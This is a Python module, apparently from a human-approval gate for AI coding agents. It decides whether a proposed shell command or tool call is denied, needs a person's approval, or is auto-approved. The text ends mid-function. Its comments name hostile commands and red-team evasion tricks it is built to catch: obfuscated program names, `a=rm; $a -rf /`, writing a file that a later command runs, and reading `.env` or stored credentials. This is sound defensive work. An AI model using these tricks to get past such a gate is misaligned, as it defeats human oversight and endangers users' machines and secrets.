"""decide(): the policy decision for one proposed action, in the exact order of SPEC §5.

One function per step, each taking the decision so far (:class:`_State`) and returning it, run in order by
:data:`STEPS`: 1. :func:`iam` -> deny.  2. :func:`base_and_floor`: base require_approval; container floor ->
auto_approve.  3. :func:`autonomy`.  4. :func:`rules`: permissions.json + built-ins (per segment for
terminal: permissions.segments).  5. :func:`policy_hooks`.  6. :func:`caps`, then the last cap,
:func:`path_scope`, and :func:`unreadable` (a command that could not be read in full never auto-approves).
Explicit opinions replace the verdict so far; a silent step never lowers it; deny returns at once.
Plain data in, a :class:`Verdict` out -- no Django, no I/O (hooks are passed in by the caller).
"""

from __future__ import annotations

import gc
import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from fnmatch import fnmatchcase
from typing import Any

from permissions import mcp
from permissions.action_types import ACTION_TYPES, AUTO_APPROVE, DENY, REQUIRE_APPROVAL, ROLES, role_at_least
from permissions.autonomy import resolve_autonomy
from permissions.caps import CAP_VERBS as _CAP_VERBS
from permissions.caps import external_effect_views, network_redirect
from permissions.commands import (
    FILE_WRITERS,
    PATH_WRITERS,
    WRITTEN_THEN_RUN,
    hands_a_data_store,
    runs_a_written_file,
)
from permissions.commands.agent_clis import AGENT_FIRSTS, moves_folder, nested_agent, starts_agent
from permissions.commands.arithmetic import arithmetic_on_input
from permissions.commands.copies import (
    AS,
    COPIERS,
    EITHER,
    HERE,
    ON_THE_NAME,
    PARENTS,
    REPOSITORY,
    STREAM,
    Copy,
    copies_in,
)
from permissions.commands.credentials import CREDENTIAL_VERBS, credential_hint, credential_named
from permissions.commands.credentials import READERS as CREDENTIAL_READERS
from permissions.commands.environment import arguments_carried, todo_editor_carried
from permissions.commands.fetches import sends_captured
from permissions.commands.file_printers import loaded_files, prints_environment
from permissions.commands.find import FDS, FdWords, fd_picked
from permissions.commands.git import canonical_branch, names_protected_branch, protected_branch_move
from permissions.commands.interpreters import inline_program
from permissions.commands.list_feeds import fed_reads
from permissions.commands.machine import compose_named_elsewhere, hook_signalled, machine_change
from permissions.commands.migrations import MIGRATION_VERBS, migrates_after
from permissions.commands.options import DENY_ONLY, PROGRAMS, canonical_words, program_name
from permissions.commands.privilege import privileged_view, still_privileged
from permissions.commands.recursive_reads import RECURSIVE_READERS, folders_read
from permissions.commands.secret_keepers import inspected_then_filtered
from permissions.commands.shells import SHELLS, inline_script
from permissions.commands.syntax import option_values
from permissions.commands.typed_input import (
    PAGED_VERBS,
    TOO_MANY_SETTINGS,
    TYPED_VERBS,
    carries_settings,
    named_values,
    possible_settings,
    settings_of,
    typed_into,
)
from permissions.commands.uploads import (
    SERVER_CLIENTS,
    UPLOAD_VERBS,
    captures,
    fed_segments,
    handed_words,
    names_a_proxy,
    servers_set,
    uploads_in,
)
from permissions.commands.windows import (
    FIRST_LED_SHIFT,
    WINDOWS_ENV,
    WINDOWS_LED,
    WINDOWS_SPLITS,
    cmd_line_read,
    may_run_a_file,
    names_windows_writer,
    posix_spellings,
    powershell_statements,
    runs_unread,
    sends_on_the_web,
    stops_by_method,
    texts_to_spell,
    windows_environment,
    windows_machine_change,
    windows_readings,
    windows_runs_written,
    windows_split,
    windows_statements,
    windows_texts,
)
from permissions.commands.windows_deletions import DELETION_CUE
from permissions.commands.wrappers import RUNNERS, WRAPPERS, looks_up
from permissions.commands.writes import WRITE_VERBS, find_expression_at, may_write
from permissions.exported import assigned_rules, exported_options
from permissions.floor import BUILTIN_DENY, FLOOR_VERBS, names_windows_deleter, runner_line, statement_texts
from permissions.hooks import PolicyHook, run_hooks
from permissions.matching import (
    ASK_RANK,
    DELETES_A_PLACE,
    DENY_RANK,
    FED_SCRIPTS,
    PRINTS_A_PLACE,
    SCRIPT_FILE_OPTIONS,
    SCRIPT_RUNNERS,
    SOURCE_QUOTERS,
    SOURCING,
    CompiledPermissions,
    content_reads,
    fold_path,
    paths_from,
    windows_places,
)
from permissions.matching import _place as place_of
from permissions.memos import Memo
from permissions.messages import sentence
from permissions.protected_paths import (
    may_name_a_place,
    may_name_agent_settings,
    may_write_any,
    protected_file,
    protected_writes,
)
from permissions.scope import Scope, scope_for, within
from permissions.segments import (
    KNOWN_CHARS,
    SegmentReading,
    SegmentVerdict,
    judge_segment,
    read_known_segments,
    read_segments,
    shown,
    views_of,
)
from permissions.shell import TOO_COMPLEX, ParsedCommand, Segment, parse_command
from permissions.where import (
    CHDIR_WRAPPERS,
    COPY_WORD,
    HOME,
    UNKNOWN,
    command_values,
    cwd_sets,
    deletion_views,
    dotted_globs,
    execdir_folders,
    fed_words,
    floor_where,
    handed_at_run_time,
    joiners,
    nearest,
    picked_by_name,
    verb_from_a_copy,
    verb_from_a_variable,
    wrapper_chdirs,
)

__all__ = [
    "MAX_COMMAND_CHARS",
    "MAX_SEGMENTS",
    "REASON_CODES",
    "RUNS_IN",
    "AutonomyRow",
    "DecisionRequest",
    "Permissions",
    "ProjectState",
    "SegmentVerdict",
    "Verdict",
    "compiled",
    "decide",
    "runs_in_of",
]

# R12.2: the stable enum. The reason is the step that set the final verdict.
REASON_CODES: tuple[str, ...] = (
    "iam",
    "builtin_deny",
    "deny_rule",
    "ask_rule",
    "allow_rule",
    "scope_cd",
    "autonomy",
    "container_floor",
    "default",
    "compound_uncovered",
    "unparseable",
    "hook",
    "cap_protected_merge",
    "cap_instruction_patch",
    "cap_parallel",
    "cap_container_remove",
    "cap_typed_push",
    "cap_external_effect",
    "cap_privileged",
    "cap_path_scope",
)

# R4.7: past these a command is never auto-approved (every segment is still checked for deny).
MAX_COMMAND_CHARS = 10_000
MAX_SEGMENTS = 50

# verbs that may write a file a later segment runs, and the wrappers before one (red team: `env tee Makefile`);
# the others the write table reads when their words may write (`git checkout x -- Makefile`, `sort -o F`)
# (a launcher runs a writer as a wrapper does: `npx npm pkg set scripts.test=… && npm test`)
_WRITES = FILE_WRITERS | PATH_WRITERS | frozenset(WRAPPERS) | frozenset(RUNNERS)
# SPEC §5: where an action runs. Only Brabo's own sandbox has the container floor, the container roots and a
# private /tmp; `host` and `agent` are decided with the host root and the path scope in every mode.
RUNS_IN: tuple[str, ...] = ("sandbox", "host", "agent")
SANDBOX = "sandbox"
# R4.7, the read budget: past the read budget, constructs that build a word the text does not spell: ANSI-C
# quoting (`$'\x63url'`) and a brace list glued to a word (`{x,cu}rl`, `c{u,}rl`). A list standing alone
# (`{curl,x}`, hostile `{a,{a,...}}`) spells its alternatives, which the name search sees.
_HIDES_WORDS = re.compile(r"\$'|\w\{[^{}\s]*,|,[^{}\s]*\}\w")
_HIDDEN_WORDS = "it builds words with ANSI-C quoting or brace expansion, where a denied program could hide"
_TYPE_CAPS: dict[str, str] = {
    "instruction_patch": "cap_instruction_patch",
    "parallelize": "cap_parallel",
    "raise_max_parallel": "cap_parallel",
    "container_remove": "cap_container_remove",
    "git_push": "cap_typed_push",
    "pr_open": "cap_typed_push",
}


@dataclass(frozen=True)
class Permissions:
    allow: tuple[str, ...] = ()
    deny: tuple[str, ...] = ()
    ask: tuple[str, ...] = ()


@dataclass(frozen=True)
class AutonomyRow:
    action_type: str
    mode: str


@dataclass(frozen=True)
class ProjectState:
    execution_mode: str = "container"
    container_running: bool = False
    root: str = ""
    protected_branches: tuple[str, ...] = ("dev", "qa", "rc", "main")
    scope_root_id: str | None = None  # relative identifier for events (R6.4), never an absolute path
    workspace_dir_name: str | None = None  # the project's frozen folder name (R1.3), what hooks are told


@dataclass(frozen=True)
class DecisionRequest:
    action_type: str
    role: str | None
    project: ProjectState
    command: str | None = None
    cwd: str | None = None
    target_branch: str | None = None
    permissions: Permissions = Permissions()
    autonomy: tuple[AutonomyRow, ...] = ()
    # The action's whole payload, for policy hooks (R11.2 `arguments`); the engine itself reads the fields
    # above. Not hashed: compare=False keeps the request usable as a value.
    payload: Mapping[str, Any] | None = field(default=None, compare=False)
    # Why the permissions file did not load (``permissions`` is then empty): the request fails closed.
    permissions_error: str | None = None
    # SPEC §5: where the action runs -- "sandbox" (Brabo's own), "host" (no sandbox) or "agent" (a coding
    # agent's hook: the agent runs it on its own machine). Anything but "sandbox" is decided as host.
    runs_in: str = SANDBOX


@dataclass(frozen=True)
class Verdict:
    decision: str
    reason: str
    message: str
    segments: tuple[SegmentVerdict, ...] = ()
    scope_root: str | None = None
    auto_mode: bool = False

    def to_dict(self) -> dict[str, Any]:
        """Exactly the R12.2 verdict shape."""
        return {
            "decision": self.decision,
            "reason": self.reason,
            "message": self.message,
            "segments": [
                {"command": s.command, "verdict": s.verdict, "pattern": s.pattern} for s in self.segments
            ],
        }


_gc_isenabled, _gc_disable, _gc_enable = gc.isenabled, gc.disable, gc.enable

# The hot path builds one SegmentVerdict per segment and one Verdict per decision. Frozen dataclasses set
# each field through object.__setattr__; filling the instance dict directly is the same object (equality,
# hash, repr, immutability to callers are unchanged: test_decide checks both constructions are equal)
# at about half the cost.
_new = object.__new__


# -- compiled permissions, cached by object identity -------------------------------------------------------
_CACHE: dict[int, tuple[Permissions, CompiledPermissions]] = {}
_BY_VALUE: dict[Permissions, CompiledPermissions] = {}
_CACHE_MAX = 64


def compiled(perms: Permissions) -> CompiledPermissions:
    """The index for ``perms``, built once per rule set.

    Looked up by identity first (free), then by value, so a caller that reloads the same file into a new
    Permissions object for every decision still compiles it only once.
    """
    hit = _CACHE.get(id(perms))
    if hit is not None and hit[0] is perms:
        return hit[1]
    comp = _BY_VALUE.get(perms)
    if comp is None:
        comp = CompiledPermissions(perms.allow, perms.deny, perms.ask)
        if len(_BY_VALUE) >= _CACHE_MAX:
            _BY_VALUE.clear()
        _BY_VALUE[perms] = comp
    if len(_CACHE) >= _CACHE_MAX:
        _CACHE.clear()
    _CACHE[id(perms)] = (perms, comp)  # holding perms keeps its id from being reused while cached
    return comp


class _State:
    """The decision so far, handed from one SPEC §5 step to the next (each step takes it and returns it).

    ``decision``/``reason``/``detail`` are the verdict so far; ``done`` is set when a step denies (deny returns
    at once). The terminal fields are what step 4 read, which the hooks and the caps read again. (Fields a step
    may never set keep their class default: a decision builds one state, and setting only what it uses is
    cheaper.)"""

    # (base_and_floor sets both, or iam's deny does, before anything reads them)
    decision: str = REQUIRE_APPROVAL
    reason: str = "default"
    detail: str | None = None
    done: bool = False
    auto_mode: bool = False
    segments: tuple[SegmentVerdict, ...] = ()
    parsed: ParsedCommand | None = None
    seg_views: list[list[tuple[str, ...]]] = []  # replaced, never appended to (step 4 sets its own list)
    scope: Scope | None = None
    never_auto: str | None = None  # why this command can never be auto-approved
    opaque: str | None = None  # why an uncovered segment's meaning cannot be read (R4.9)
    opaque_note: str | None = None  # why a segment is opaque, for the sentence people read (R4.9)
    # off the sandbox, which Windows readings the segments may need (permissions.commands.windows), set in step 4
    windows: int = 0
    # the segments' texts, each followed by the statements of the script blocks it holds (windows_texts);
    # replaced, never appended to
    win_texts: list[str] = []
    # the request as proposed, where step 4 reads another spelling of its command (_powershell_read): what the
    # policy hooks are sent
    given: DecisionRequest | None = None
    # off the sandbox, a script block's statement that has an external effect / that no allow covers (step 4)
    block_cap: tuple[str, str] | None = None
    block_uncovered: str | None = None
    dot_led: bool = False  # off the sandbox, some segment may be led by PowerShell's `.` (_dot_led)

    def __init__(self, req: DecisionRequest, hooks: Sequence[PolicyHook]) -> None:
        self.req = req
        self.hooks = hooks
        self.terminal = req.action_type == "terminal"
        # SPEC §5: the floor, the container roots (R6.1) and a private /tmp exist only in Brabo's own sandbox;
        # any other (or unknown) runs_in is decided with the host root, a running container changing nothing.
        self.in_sandbox = in_sandbox = req.runs_in == SANDBOX
        self.running = req.project.container_running and in_sandbox

    def opinion(self, decision: str, reason: str, detail: str | None = None) -> None:
        """An explicit opinion replaces the verdict so far; a deny ends the decision."""
        self.decision = decision
        self.reason = reason
        self.detail = detail
        if decision == DENY:
            self.done = True

    def scope_of(self) -> Scope:
        """The path scope of the request (R6.1), built once."""
        if self.scope is None:
            project = self.req.project
            self.scope = scope_for(
                project.execution_mode, self.running, project.root, self.req.cwd, windows=not self.in_sandbox
            )
        return self.scope


def _powershell_read(st: _State, parsed: ParsedCommand) -> ParsedCommand:
    """SPEC §5, off the sandbox: a command whose `(` bash's reader stopped at, read as PowerShell runs it when it
    is one of the statements permissions.commands.windows.powershell_statements spells in words the rest of the
    reading knows (`Join-Path (Get-Location) src` is `Join-Path $PWD src`): the request then carries that
    spelling (``st.given`` the one proposed). Else ``parsed``, as proposed."""
    command = st.req.command or ""
    # (past MAX_COMMAND_CHARS nothing is auto-approved: the text is read as proposed, in time linear in it)
    read = powershell_statements(command) if len(command) <= MAX_COMMAND_CHARS else None
    if read is None:
        return parsed
    st.given = st.req
    st.req = replace(st.req, command=read)
    return parse_command(read)


_PAREN_AFTER_WORDS = "a '(' after a command's words is not read"
_QUOTE_OPEN = "a double quote is not closed"


def _verdict(st: _State) -> Verdict:
    root_id = st.req.project.scope_root_id
    v = _new(Verdict)  # see the note above _new
    d = v.__dict__
    d["decision"] = st.decision
    d["reason"] = st.reason
    d["message"] = sentence(st.reason, root_id, st.detail)
    d["segments"] = st.segments
    d["scope_root"] = root_id
    d["auto_mode"] = st.auto_mode
    return v


def runs_in_of(execution_mode: str) -> str:
    """Where Brabo itself runs a project's actions (SPEC §5): a container, the bubblewrap sandbox of a
    ``local`` project (never unsandboxed) and a ``mounted`` project's registered container (R6.1) are
    ``sandbox``; a ``runner`` project runs wherever its runner does -- in a sandbox when bubblewrap works there,
    directly on the machine otherwise -- which the server cannot know (R6.1), so ``host``."""
    return "host" if execution_mode == "runner" else SANDBOX


def decide(req: DecisionRequest, hooks: Sequence[PolicyHook] = ()) -> Verdict:
    """Decide one proposed action (SPEC §5). Never raises on any input.

    A permissions file that does not load (``req.permissions_error``) never auto-approves (R3.3): the deny
    rules that cannot be read are replaced by a person's look at every action that is not denied anyway.

    no stalls in long-running processes: the cyclic garbage collector is paused for the decision. A decision makes no lasting
    cycles (its few short-lived ones are collected at the next run after it), but a long command keeps
    hundreds of thousands of objects alive while it is read, and a collection of the oldest generation
    triggered then walks all of them: one decision stalled at the same position of a long stream. Paused,
    a collection can only run between decisions (``permissions.cli.run_eval`` also freezes what it loaded,
    so those runs walk little). Nested or concurrent calls leave the collector as they found it."""
    if not _gc_isenabled():
        return _decide_once(req, hooks)
    _gc_disable()
    try:
        return _decide_once(req, hooks)
    finally:
        _gc_enable()


def _decide_once(req: DecisionRequest, hooks: Sequence[PolicyHook]) -> Verdict:
    st = _State(req, hooks)
    # STEPS, in their order, called one after the other (a loop over them costs a decision more bytecodes):
    # each step returns the state it was given, and only iam, autonomy, rules and policy_hooks may deny (set
    # st.done) -- the rest only ever set auto_approve or require_approval. permissions/tests/test_decide_steps.py
    # holds this sequence to STEPS.
    if (req.action_type, req.role) not in _MEETS:
        iam(st)  # (iam's own first test, inlined: a role that meets the type's minimum passes it silently)
    if not st.done:
        base_and_floor(st)
        if req.autonomy:
            autonomy(st)  # (no row, no opinion: autonomy's own first test, inlined)
        if not st.done:
            rules(st)
            if not st.done and (not hooks or not policy_hooks(st).done):
                caps(st)
                path_scope(st)
                unreadable(st)
    verdict = _verdict(st)
    if not req.permissions_error or verdict.decision == DENY:
        return verdict
    reason = "default" if verdict.decision == AUTO_APPROVE else verdict.reason
    return replace(
        verdict,
        decision=REQUIRE_APPROVAL,
        reason=reason,
        message=sentence(
            reason, verdict.scope_root, f"permissions.json does not load ({req.permissions_error})"
        ),
    )


# -- SPEC §5, one function per step, in its order --------------------------------------------------------------


# (action type, role) pairs whose role meets the type's minimum (R2.1): the common case in one look-up.
_MEETS = frozenset(
    (name, role)
    for name, atype in ACTION_TYPES.items()
    for role in ROLES
    if role_at_least(role, atype.min_role)
)


def iam(st: _State) -> _State:
    """1. IAM (R2.1) -> deny. An unknown type has no minimum anyone meets."""
    req = st.req
    if (req.action_type, req.role) in _MEETS:
        return st
    atype = ACTION_TYPES.get(req.action_type)
    if atype is None:
        st.opinion(DENY, "iam", f"unknown action type {req.action_type!r}")
    elif not role_at_least(req.role, atype.min_role):
        st.opinion(DENY, "iam", f"{req.action_type} needs {atype.min_role} or above")
    return st


def base_and_floor(st: _State) -> _State:
    """2. Base require_approval; the container floor (RN-492/493) starts a terminal action in a running
    container-mode project (in Brabo's own sandbox) from auto_approve."""
    if st.terminal and st.running and st.req.project.execution_mode == "container":
        st.decision, st.reason = AUTO_APPROVE, "container_floor"
    else:
        st.decision, st.reason = REQUIRE_APPROVAL, "default"
    return st


def autonomy(st: _State) -> _State:
    """3. Agent autonomy (ADR 0189 §2); wildcard auto_approve is auto mode."""
    req = st.req
    if not req.autonomy:
        return st  # no row speaks: not auto mode (the state's default), no opinion
    res = resolve_autonomy(req.autonomy, req.action_type)
    st.auto_mode = res.auto_mode
    if res.mode is not None:
        st.opinion(res.mode, "autonomy")
    return st


def rules(st: _State) -> _State:
    """4. permissions.json + built-ins (§3, §4): typed actions by their type, terminal per segment."""
    comp = compiled(st.req.permissions)
    if st.terminal:
        return _terminal_rules(st, comp)
    said = _typed_opinion(st.req, comp)  # an mcp_call is read by its Mcp(...) patterns there
    if said is not None:
        st.opinion(*said)
    if st.req.action_type == "mcp_call" and not st.done:
        _mcp_command(st)
    return st


def _mcp_command(st: _State) -> None:
    """red team (SPEC §5, R4.10): a shell-running MCP tool's command line (mcp.shell_run) judged as the agents'
    shell tool's is, on the agent's machine, under the same rules and autonomy: its deny denies the call, and
    the call is auto-approved only when the command is too (an allow of the tool is no allow of what it runs)."""
    run = mcp.shell_run(st.req.payload)
    if run is None:
        return
    if run.command is None:
        if st.decision == AUTO_APPROVE:
            st.opinion(REQUIRE_APPROVAL, "unparseable", run.why)
        return
    req = st.req
    cwd = f"{req.project.root.rstrip('/')}/{run.cwd}" if run.cwd and req.project.root else None
    inner = decide(
        DecisionRequest(
            "terminal",
            req.role,
            req.project,
            command=run.command,
            cwd=cwd,
            permissions=req.permissions,
            autonomy=req.autonomy,
            permissions_error=req.permissions_error,
            runs_in="agent",
        )
    )
    if inner.decision == AUTO_APPROVE or (inner.decision != DENY and st.decision != AUTO_APPROVE):
        return
    st.opinion(inner.decision, inner.reason, f"{run.name} runs {run.command[:200]!r}: {inner.message}")


def _typed_opinion(req: DecisionRequest, comp: CompiledPermissions) -> tuple[str, str, str] | None:
    """Step 4 for a typed action: the first deny, else ask, else allow pattern for it, as (decision, reason,
    pattern). An ``mcp_call`` is read by its Mcp(...) patterns (``permissions.mcp``), never by the type's
    ``McpCall()`` allow."""
    at = req.action_type
    if at == "mcp_call":
        p = req.permissions
        return mcp.rules_opinion(p.allow, p.deny, p.ask, req.payload)
    if at in comp.deny.typed:
        return DENY, "deny_rule", comp.deny.typed[at].text
    if at in comp.ask.typed:
        return REQUIRE_APPROVAL, "ask_rule", comp.ask.typed[at].text
    if at in comp.allow.typed:
        return AUTO_APPROVE, "allow_rule", comp.allow.typed[at].text
    return None


def policy_hooks(st: _State) -> _State:
    """5. Policy hooks (seed 002, R11): in order; deny returns; a failure denies."""
    if not st.hooks:
        return st
    req = st.req
    parsed = st.parsed
    if st.terminal and parsed is not None and len(st.seg_views) < len(parsed.segments):
        st.seg_views = [views_of(s.words) for s in parsed.segments]  # skipped in step 4 (doomed)
    if st.terminal:
        external = _terminal_cap(
            st.seg_views, parsed, req.project.protected_branches, req.command or ""
        ) is not None or (
            bool(st.windows & WINDOWS_LED) and parsed is not None and _windows_cap(st.win_texts) is not None
        )
    else:
        # an MCP call of a code host's merge, push, PR, branch or deletion tool is one too
        external = req.action_type in ("git_push", "pr_open", "git_merge") or mcp.external_effect(req)
    answer = run_hooks(st.hooks, st.given or req, st.decision, external)
    if answer is not None:
        st.opinion(answer[0], "hook", answer[1])
    return st


def caps(st: _State) -> _State:
    """6. Caps: auto_approve -> require_approval, whatever was configured. Never touch deny."""
    if st.decision != AUTO_APPROVE:
        return st
    req = st.req
    if st.terminal:  # the common case first: no branch below is for a terminal action
        protected = req.project.protected_branches
        command = req.command or ""
        key = (command, protected)
        cap = _CAP_MEMO.get(key, _UNSEEN)
        if cap is _UNSEEN:
            parsed = st.parsed
            seg_views = st.seg_views
            cap = _terminal_cap(seg_views, parsed, protected, command)
            # kept when every view was read, for a command of at most _MEMO_CHARS
            if parsed is not None and len(seg_views) == len(parsed.segments) and len(command) <= _MEMO_CHARS:
                if len(_CAP_MEMO) >= _CAP_MEMO.limit:  # Memo.keep, inlined (a call less per decision)
                    _CAP_MEMO.clear()
                _CAP_MEMO[key] = cap
        if cap is None and (st.windows or st.block_cap is not None):
            cap = _windows_caps(st)  # SPEC §5: on Windows, PowerShell's spellings and script blocks too
        if cap is not None:
            st.opinion(REQUIRE_APPROVAL, cap[0], cap[1])
        return st
    at = req.action_type
    if at == "mcp_call":  # the caps through MCP (permissions.mcp)
        capped = mcp.cap(req.payload, req.project.protected_branches, st.reason)
        if capped is not None:
            st.opinion(REQUIRE_APPROVAL, *capped)
    elif at == "git_merge":
        # RN-006, merge targets spelled another way: any spelling git or the provider could read as a protected branch.
        if names_protected_branch(req.target_branch, req.project.protected_branches):
            named = canonical_branch(req.target_branch) or (req.target_branch or "").strip()
            st.opinion(REQUIRE_APPROVAL, "cap_protected_merge", named or "no target branch given")
    elif at in _TYPE_CAPS:
        st.opinion(REQUIRE_APPROVAL, _TYPE_CAPS[at])
    elif at == "write_file":
        # R3.7: no pattern names a path for a typed action (R3.2), so a person approves each such write.
        why = _protected_file_write(req.payload)
        if why is not None:
            st.opinion(REQUIRE_APPROVAL, "unparseable", why)
    return st


def path_scope(st: _State) -> _State:
    """6. The last cap, path scope (ADR 0055, §6) for terminal: a command touching a path outside the scope is
    never auto-approved -- except in auto mode inside Brabo's sandbox (RN-603, SPEC §5). Off the sandbox
    (``host``, ``agent``), a command that changes the machine outside the project without naming a path
    (``npm i -g x``, ``crontab -r``, ``kill -9 -1``, ``git config --global …``: permissions.commands.machine)
    is outside the scope too; inside Brabo's sandbox it changes only the sandbox."""
    parsed = st.parsed
    if st.decision != AUTO_APPROVE or not st.terminal or parsed is None or (st.auto_mode and st.in_sandbox):
        return st
    command = st.req.command or ""
    scope = st.scope_of()
    key = (command, scope.roots, scope.cwd, scope.windows)  # the scope's fields (a Scope hashes slower)
    first = _OUTSIDE_MEMO.get(key, _UNSEEN)
    if first is _UNSEEN:
        outside = scope.outside_paths(parsed.segments, command)
        first = outside[0] if outside else None
        if len(command) <= _MEMO_CHARS:  # kept for a command of at most _MEMO_CHARS
            if len(_OUTSIDE_MEMO) >= _OUTSIDE_MEMO.limit:  # Memo.keep, inlined (a call less per decision)
                _OUTSIDE_MEMO.clear()
            _OUTSIDE_MEMO[key] = first
    if first is None and not st.in_sandbox:
        first = _machine_change(st, parsed, command)
    if first is not None:
        st.opinion(REQUIRE_APPROVAL, "cap_path_scope", first)
    return st


def _machine_change(st: _State, parsed: ParsedCommand, command: str) -> str | None:
    """SPEC §5, where it runs: the first segment that changes the machine outside the project, as the sentence
    a person reads ("'npm i -g x' installs outside the project (a global install)"), or None. It depends on
    the text only (memoised, as the caps are)."""
    found = _MACHINE_MEMO.get(command, _UNSEEN)
    if found is not _UNSEEN:
        return found  # type: ignore[no-any-return]
    segments = parsed.segments
    seg_views = st.seg_views
    # the views step 4 kept, and for any segment past them its own (one list for both readings below)
    views = (
        seg_views
        if len(seg_views) >= len(segments)
        else [*seg_views, *(views_of(seg.words) for seg in segments[len(seg_views) :])]
    )
    found = None
    windows = bool(st.windows & WINDOWS_LED)
    for i, (seg, vs) in enumerate(zip(segments, views)):
        what = machine_change(vs, seg.words)
        if what is None:
            for v in vs:  # R4.10: a credential the machine keeps, printed by the tool that keeps it
                if v and v[0] in CREDENTIAL_VERBS:
                    what = CREDENTIAL_READERS[v[0]](v)
                    if what is not None:
                        break
        if what is not None and not _filtered_by_jq(segments, views, i, command):
            found = f"'{shown(seg.text)}' {what}"
            break
    if found is None and credential_hint(command, parsed) is not None:  # a metadata service or a secret store
        found = f"'{shown(command)}' {credential_named(command, parsed)}"
    if found is None and ("kill" in command or "ompose" in command):
        what = _across_segments(command, views)
        if what is not None:
            found = f"'{shown(command)}' {what}"
    if found is None:
        found = _windows_change(st, windows, command)
    if len(command) <= _MEMO_CHARS:  # kept for a command of at most _MEMO_CHARS
        _MACHINE_MEMO.keep(command, found)
    return found


def _filtered_by_jq(
    segments: Sequence[Segment], views: list[list[tuple[str, ...]]], i: int, command: str
) -> bool:
    """Friction, for _machine_change: segment ``i`` a container's inspection piped into a jq filter that prints
    fields away from its environment (secret_keepers.inspected_then_filtered)."""
    if i + 1 >= len(segments) or segments[i + 1].words[:1] != ("jq",) or "|" not in command:
        return False
    if joiners(segments, command)[i] != "|":
        return False
    return any(inspected_then_filtered(v, segments[i + 1].words) for v in views[i])


def _windows_change(st: _State, windows: bool, command: str) -> str | None:
    """_machine_change's reading of PowerShell's and cmd's spellings (SPEC §5), ``windows`` when a text's first
    word may need it; and a Process object's Kill() anywhere in the text (R12.6, `(Get-Process python).Kill()`)."""
    if windows:
        for text in st.win_texts:
            what = windows_machine_change(text)
            if what is not None:
                return f"'{shown(text)}' {what}"
    what = stops_by_method(command)
    return None if what is None else f"'{shown(command)}' {what}"


def _across_segments(command: str, views: list[list[tuple[str, ...]]]) -> str | None:
    """A machine change read from more than one segment: Brabo's hook picked to signal by a listing (R12.6),
    a Compose project named by another segment (red team)."""
    if "kill" in command:
        what = hook_signalled(views)
        if what is not None:
            return what
    if "ompose" in command and "COMPOSE_PROJECT_NAME" in command.upper():
        return compose_named_elsewhere(views)
    return None


def unreadable(st: _State) -> _State:
    """After the caps, a terminal command step 4 could not read in full: unparseable or past the limits (R4.7),
    a shell fed commands no rule sees, or an opaque segment no exact allow covers (R4.9). Applied last, so it
    never replaces another step's reason -- but autonomy, auto mode and the container floor never auto-approve
    it. Then the sentence names the opaque segment that kept the command from auto-approval (R4.9)."""
    if not st.terminal or st.parsed is None:
        return st
    if st.decision == AUTO_APPROVE:
        if st.never_auto is not None:
            st.opinion(REQUIRE_APPROVAL, "unparseable", st.never_auto)
        elif st.parsed.unseen is not None or st.opaque is not None:
            st.opinion(REQUIRE_APPROVAL, "unparseable", st.parsed.unseen or st.opaque_note or st.opaque)
    if (
        st.opaque_note is not None
        and st.detail is None
        and st.decision == REQUIRE_APPROVAL
        and st.reason in _EXPLAINED
    ):
        st.detail = st.opaque_note  # R12.2's free text; the reason code and the segments stay as they are
    return st


Step = Callable[[_State], _State]
# SPEC §5's order. Explicit opinions replace the verdict so far; a silent step never lowers it; deny ends it.
STEPS: tuple[Step, ...] = (iam, base_and_floor, autonomy, rules, policy_hooks, caps, path_scope, unreadable)

# Verdict reasons whose sentence gains the opaque segment that kept the command from auto-approval.
_EXPLAINED = frozenset({"default", "compound_uncovered", "autonomy", "container_floor"})


# -- step 4 for a terminal command ---------------------------------------------------------------------------


def _terminal_rules(st: _State, comp: CompiledPermissions) -> _State:
    """Step 4 for terminal: every segment judged (permissions.segments), then what the whole command adds: where
    a deletion lands, the part past the read budget, and why it can never be auto-approved."""
    st.parsed = parsed = parse_command(st.req.command or "") if st.in_sandbox else _parse_terminal(st)
    command = st.req.command or ""  # (off the sandbox, maybe PowerShell's statements read: _powershell_read)
    many = len(parsed.segments) > MAX_SEGMENTS
    # R4.7: unparseable, or past MAX_COMMAND_CHARS / MAX_SEGMENTS: never auto-approved, every segment judged.
    doomed = parsed.unparseable or len(command) > MAX_COMMAND_CHARS or many
    if not many and len(command) <= KNOWN_CHARS:
        reading, scope = read_known_segments(parsed, command, comp, doomed, st.scope_of, not st.in_sandbox)
    else:
        reading, scope = read_segments(parsed, command, comp, doomed, many, st.scope_of, not st.in_sandbox)
    st.seg_views = reading.seg_views
    st.opaque = reading.opaque
    st.opaque_note = reading.opaque_note
    denied = reading.denied
    if denied is None and "=" in command:
        denied = _environment_rules(parsed, reading, comp)
    denied = (  # (st.windows is never set in the sandbox)
        _windows_rules(st, comp, reading) if st.windows & WINDOWS_LED and denied is None else denied
    )
    if comp.path_rules and denied is None:
        denied = _paths_spelt(st, comp, reading)  # R4.10: `cat /srv/ws/app/.env` for a deny of `cat .env`
    if denied is None and (
        reading.may_delete
        or (
            not st.in_sandbox
            and (
                doomed
                or st.dot_led
                or len(st.win_texts) > len(parsed.segments)
                or names_windows_deleter(reading.seg_views)
            )
        )
        # a command word from a variable (`a=rm; $a -rf /`), PowerShell deleting on Linux too (where.floor_where)
        or _floor_more(command, parsed)
    ):  # a script block's statements off the sandbox; off the sandbox Windows' deleters too
        denied = _blocks_and_floor(st, comp, reading, doomed)
    st.segments = segs = tuple(reading.out)
    asked = reading.asked
    if denied is None and parsed.problem == TOO_COMPLEX:
        denied, asked = _past_read_budget(comp, command, asked)
    if denied is not None:
        st.opinion(DENY, denied[0], denied[1])
        return st
    if asked is not None:
        st.opinion(REQUIRE_APPROVAL, "ask_rule", asked)  # a file `ask` holds in auto mode too
        if st.hooks:
            # Why it can never be auto-approved is read by the last step for an auto-approval, which only a
            # hook can still give (the caps only lower): without hooks it is not read at all.
            st.never_auto = _never_auto(st, comp, command)
        return st
    st.never_auto = never_auto = _never_auto(st, comp, command)
    if never_auto is not None:
        _never_auto_opinion(st, reading, never_auto, doomed)
    elif len(segs) == 1 and st.block_uncovered is None:
        if reading.allowed_reason is not None:
            st.opinion(AUTO_APPROVE, reading.allowed_reason, segs[0].pattern)
        # else: a single command with no rule is silent (R4.4)
    elif segs:  # more than one segment, or a script block's statement no allow covers (_script_blocks)
        if reading.uncovered == 0 and st.block_uncovered is None and reading.allowed_reason is not None:
            st.opinion(AUTO_APPROVE, reading.allowed_reason)
        elif not st.auto_mode:
            # R4.4: a segment with no rule is a concrete opinion. Dropped in auto mode (RN-603).
